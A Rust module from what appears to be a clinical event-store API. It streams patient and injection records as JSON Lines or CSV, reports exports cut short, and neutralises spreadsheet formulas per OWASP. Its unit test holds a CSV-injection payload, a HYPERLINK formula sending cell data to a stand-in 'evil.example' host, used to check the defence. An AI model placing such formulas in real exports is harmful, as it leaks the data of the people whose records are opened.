//! Answers as JSON pages, or streamed as JSON Lines or CSV: rendered row by
//! row from the store while the response is sent, never built in memory.

use axum::{
    body::Body,
    http::{HeaderValue, header},
    response::{IntoResponse, Response},
};
use bytes::Bytes;
use prolo_projector::Store;
use prolo_query::{EventView, InjectionRow, event_view};

use crate::error::ApiError;

/// How an answer is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// One JSON document, paginated.
    Json,
    /// JSON Lines, the whole answer, streamed.
    Jsonl,
    /// CSV with a header row, the whole answer, streamed.
    Csv,
}

impl Format {
    /// The values of the `format` parameter, as [`Format::parse`] takes them.
    pub const NAMES: [&'static str; 3] = ["json", "jsonl", "csv"];

    /// From the `format` parameter (JSON when absent).
    pub fn parse(value: Option<&str>) -> Result<Format, ApiError> {
        match value {
            None | Some("json") => Ok(Format::Json),
            Some("jsonl") => Ok(Format::Jsonl),
            Some("csv") => Ok(Format::Csv),
            Some(other) => Err(ApiError::BadRequest(format!(
                "format {other:?} is not json, jsonl or csv"
            ))),
        }
    }
}

/// A cell a spreadsheet could take for a formula (it begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return) gets a leading `'`, so that it is
/// shown as text and never evaluated (OWASP, CSV injection).
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// One CSV line through the `csv` crate (quoting per RFC 4180), every cell
/// neutralised.
fn csv_line<S: AsRef<str>>(fields: &[S]) -> Bytes {
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    let cells: Vec<std::borrow::Cow<'_, str>> =
        fields.iter().map(|f| neutralised(f.as_ref())).collect();
    if let Err(e) = writer.write_record(cells.iter().map(|c| c.as_bytes())) {
        tracing::error!(error = %e, "CSV row not written");
    }
    Bytes::from(writer.into_inner().unwrap_or_default())
}

/// The history CSV: the envelope, the clinical facts a reviewer looks for
/// (empty where the event type has none), and the whole payload as JSON.
const EVENT_COLUMNS: &[&str] = &[
    "seq",
    "event_id",
    "event_type",
    "occurred_at",
    "recorded_at",
    "stored_at",
    "clinic_id",
    "patient_id",
    "actor_id",
    "actor_role",
    "source",
    "standing",
    "signatures",
    "site",
    "laterality",
    "solution",
    "lots",
    "volume_ml",
    "guidance",
    "practitioner_id",
    "adverse_event_kind",
    "grade",
    "serious",
    "status",
    "outcome",
    "target_event_id",
    "payload",
    "subject",
];

/// A payload field as a cell: text as it is, anything else as JSON, absent as empty.
fn field(payload: &serde_json::Value, path: &[&str]) -> String {
    let value = path.iter().try_fold(payload, |v, key| v.get(key));
    match value {
        None | Some(serde_json::Value::Null) => String::new(),
        Some(serde_json::Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// The solution's components (`dextrose 15% + lidocaine 1%`) and their lots.
fn components(payload: &serde_json::Value) -> (String, String) {
    let Some(items) = payload
        .get("solution")
        .and_then(|s| s.get("components"))
        .and_then(|c| c.as_array())
    else {
        return (String::new(), String::new());
    };
    let label = |c: &serde_json::Value| {
        let agent = field(c, &["agent"]);
        match c.get("concentration_pct") {
            Some(pct) if !pct.is_null() => format!("{agent} {pct}%"),
            _ => agent,
        }
    };
    (
        items.iter().map(label).collect::<Vec<_>>().join(" + "),
        items
            .iter()
            .map(|c| field(c, &["lot"]))
            .collect::<Vec<_>>()
            .join(" "),
    )
}

fn event_csv(v: &EventView) -> Bytes {
    let p = &v.payload;
    let (solution, lots) = components(p);
    let lots = if lots.is_empty() {
        field(p, &["lot"])
    } else {
        lots
    };
    csv_line(&[
        v.seq.to_string(),
        v.event_id.to_string(),
        v.event_type.as_str().to_owned(),
        v.occurred_at.to_rfc3339(),
        v.recorded_at.to_rfc3339(),
        v.stored_at.to_rfc3339(),
        v.clinic_id.clone(),
        v.patient_id.clone().unwrap_or_default(),
        v.actor.id.clone(),
        prolo_schemas::names::name(&v.actor.role),
        v.source.clone(),
        v.standing.as_str().to_owned(),
        v.signatures
            .iter()
            .map(|s| {
                let unmatched = if s.hash_matches {
                    ""
                } else {
                    " (HASH DOES NOT MATCH)"
                };
                let unproven = if s.signer_proven {
                    ""
                } else {
                    " (signer not proven)"
                };
                format!(
                    "{} ({}), {}, {}{unmatched}{unproven}",
                    s.signer_name,
                    s.signer_id,
                    s.meaning,
                    s.signed_at.to_rfc3339()
                )
            })
            .collect::<Vec<_>>()
            .join("; "),
        field(p, &["site", "site_key"]),
        field(p, &["site", "laterality"]),
        solution,
        lots,
        field(p, &["volume_ml"]),
        field(p, &["guidance"]),
        field(p, &["practitioner_id"]),
        field(p, &["kind"]),
        field(p, &["grade"]),
        field(p, &["serious"]),
        field(p, &["status"]),
        field(p, &["outcome"]),
        [
            field(p, &["target", "event_id"]),
            field(p, &["adverse_event_id"]),
        ]
        .concat(),
        p.to_string(),
        v.subject.clone(),
    ])
}

fn jsonl<T: serde::Serialize>(value: &T) -> Bytes {
    let mut line = serde_json::to_vec(value).unwrap_or_default();
    line.push(b'\n');
    Bytes::from(line)
}

/// How a streamed export ended before its last row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cut {
    /// Rows handed to the connection.
    pub rows_sent: u64,
    /// Rows the answer held.
    pub rows_total: u64,
    /// Why it stopped.
    pub reason: String,
}

/// Called once if an export ends early (the client went away, or a row
/// could not be read), so that the access log can say so.
pub type OnCut = Box<dyn FnOnce(Cut) + Send>;

/// The rows of an export, counted as they are handed to the connection.
/// Dropped before the last row (the connection closed) or stopped by an
/// unreadable row, it reports the cut once.
struct Watched<I> {
    rows: I,
    sent: u64,
    total: u64,
    finished: bool,
    on_cut: Option<OnCut>,
}

impl<I> Watched<I> {
    fn cut(&mut self, reason: String) {
        if let Some(on_cut) = self.on_cut.take() {
            tracing::warn!(
                rows_sent = self.sent,
                rows_total = self.total,
                %reason,
                "export ended early"
            );
            on_cut(Cut {
                rows_sent: self.sent,
                rows_total: self.total,
                reason,
            });
        }
    }
}

impl<I: Iterator<Item = Result<Bytes, String>>> Iterator for Watched<I> {
    type Item = Result<Bytes, std::io::Error>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.finished {
            return None;
        }
        match self.rows.next() {
            Some(Ok(row)) => {
                self.sent += 1;
                Some(Ok(row))
            }
            // The status is sent already: end the body with an error, so
            // the client sees a broken transfer, never a short file.
            Some(Err(reason)) => {
                self.finished = true;
                self.cut(reason.clone());
                Some(Err(std::io::Error::other(reason)))
            }
            None => {
                self.finished = true;
                self.on_cut = None;
                None
            }
        }
    }
}

impl<I> Drop for Watched<I> {
    fn drop(&mut self) {
        if !self.finished {
            let reason = format!(
                "the connection ended after {} of {} rows",
                self.sent, self.total
            );
            self.cut(reason);
        }
    }
}

fn streamed(
    content_type: &'static str,
    header: Option<Bytes>,
    rows: impl Iterator<Item = Result<Bytes, String>> + Send + 'static,
    total: u64,
    on_cut: OnCut,
) -> Response {
    let watched = Watched {
        rows,
        sent: 0,
        total,
        finished: false,
        on_cut: Some(on_cut),
    };
    let lines = header.into_iter().map(Ok).chain(watched);
    let body = Body::from_stream(futures::stream::iter(lines));
    let mut response = body.into_response();
    response
        .headers_mut()
        .insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    response
}

/// Streams the events at `seqs` as JSON Lines or CSV; `on_cut` hears if it
/// ends before the last row.
pub fn stream_events(
    store: Store,
    seqs: Vec<u64>,
    as_of: Option<chrono::DateTime<chrono::Utc>>,
    format: Format,
    on_cut: OnCut,
) -> Response {
    let total = seqs.len() as u64;
    let views = seqs
        .into_iter()
        .filter_map(move |seq| match event_view(&store, seq, as_of) {
            Ok(Some(view)) => Some(Ok(view)),
            // Not visible as of `as_of`: not part of the answer.
            Ok(None) => None,
            Err(e) => Some(Err(format!("row {seq} could not be read: {e}"))),
        });
    match format {
        Format::Csv => streamed(
            "text/csv",
            Some(csv_line(EVENT_COLUMNS)),
            views.map(|v| v.map(|v| event_csv(&v))),
            total,
            on_cut,
        ),
        _ => streamed(
            "application/x-ndjson",
            None,
            views.map(|v| v.map(|v| jsonl(&v))),
            total,
            on_cut,
        ),
    }
}

const INJECTION_COLUMNS: &[&str] = &[
    "seq",
    "event_id",
    "clinic_id",
    "patient_id",
    "site_key",
    "laterality",
    "occurred_at",
    "practitioner_id",
    "solution",
    "lots",
    "volume_ml",
    "guidance",
];

/// Streams injection rows (a lot trace) as JSON Lines or CSV; `on_cut`
/// hears if it ends before the last row.
pub fn stream_injections(rows: Vec<InjectionRow>, format: Format, on_cut: OnCut) -> Response {
    let total = rows.len() as u64;
    match format {
        Format::Csv => streamed(
            "text/csv",
            Some(csv_line(INJECTION_COLUMNS)),
            rows.into_iter().map(|r| {
                Ok(csv_line(&[
                    r.seq.to_string(),
                    r.event_id.to_string(),
                    r.clinic_id,
                    r.patient_id,
                    r.site_key,
                    r.laterality.unwrap_or_default(),
                    r.occurred_at.to_rfc3339(),
                    r.practitioner_id,
                    r.solution,
                    r.lots.join(" "),
                    r.volume_ml.to_string(),
                    r.guidance,
                ]))
            }),
            total,
            on_cut,
        ),
        _ => streamed(
            "application/x-ndjson",
            None,
            rows.into_iter().map(|r| Ok(jsonl(&r))),
            total,
            on_cut,
        ),
    }
}

/// A JSON value as text for people: a string as it is, nothing for null,
/// anything else as its JSON (the console, the FHIR mapping and the CLI's
/// tables all show payload fields this way).
pub fn text(value: &serde_json::Value) -> String {
    match value {
        serde_json::Value::String(s) => s.clone(),
        serde_json::Value::Null => String::new(),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    type Heard = std::sync::Arc<std::sync::Mutex<Vec<Cut>>>;

    fn watched(
        rows: Vec<Result<Bytes, String>>,
    ) -> (Watched<std::vec::IntoIter<Result<Bytes, String>>>, Heard) {
        let cuts = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let heard = cuts.clone();
        let total = rows.len() as u64;
        let watched = Watched {
            rows: rows.into_iter(),
            sent: 0,
            total,
            finished: false,
            on_cut: Some(Box::new(move |cut| heard.lock().unwrap().push(cut))),
        };
        (watched, cuts)
    }

    #[test]
    fn every_documented_format_is_taken_and_no_other() {
        for name in Format::NAMES {
            assert!(Format::parse(Some(name)).is_ok(), "{name}");
        }
        assert!(Format::parse(Some("xml")).is_err());
    }

    #[test]
    fn an_export_read_to_the_end_reports_no_cut() {
        let (mut rows, cuts) = watched(vec![Ok(Bytes::from("a")), Ok(Bytes::from("b"))]);
        assert_eq!(rows.by_ref().count(), 2);
        drop(rows);
        assert!(cuts.lock().unwrap().is_empty());
    }

    #[test]
    fn an_export_dropped_early_reports_how_far_it_got() {
        let (mut rows, cuts) = watched(vec![
            Ok(Bytes::from("a")),
            Ok(Bytes::from("b")),
            Ok(Bytes::from("c")),
        ]);
        assert!(rows.next().is_some());
        drop(rows);
        let cuts = cuts.lock().unwrap();
        assert_eq!(cuts.len(), 1);
        assert_eq!((cuts[0].rows_sent, cuts[0].rows_total), (1, 3));
        assert!(
            cuts[0].reason.contains("after 1 of 3 rows"),
            "{}",
            cuts[0].reason
        );
    }

    #[test]
    fn an_unreadable_row_ends_the_body_with_an_error_and_reports_once() {
        let (mut rows, cuts) = watched(vec![
            Ok(Bytes::from("a")),
            Err("row 7 could not be read".into()),
            Ok(Bytes::from("c")),
        ]);
        assert!(matches!(rows.next(), Some(Ok(_))));
        assert!(matches!(rows.next(), Some(Err(_))));
        assert!(rows.next().is_none(), "nothing after the error");
        drop(rows);
        let cuts = cuts.lock().unwrap();
        assert_eq!(cuts.len(), 1);
        assert_eq!(cuts[0].reason, "row 7 could not be read");
    }

    #[test]
    fn csv_fields_are_quoted_when_needed_and_formulas_neutralised() {
        let line = |cells: &[&str]| String::from_utf8(csv_line(cells).to_vec()).unwrap_or_default();
        assert_eq!(line(&["plain", "a,b"]), "plain,\"a,b\"\n");
        assert_eq!(line(&["say \"hi\""]), "\"say \"\"hi\"\"\"\n");
        assert_eq!(
            line(&["=HYPERLINK(\"http://evil.example/?\"&B2,\"open\")"]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"open\"\")\"\n"
        );
        for dangerous in ["+1", "-1+1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                line(&[dangerous]).trim_start_matches('"').starts_with('\''),
                "{dangerous:?}"
            );
        }
        assert_eq!(line(&["P-1042"]), "P-1042\n", "a hyphen inside is harmless");
    }
}
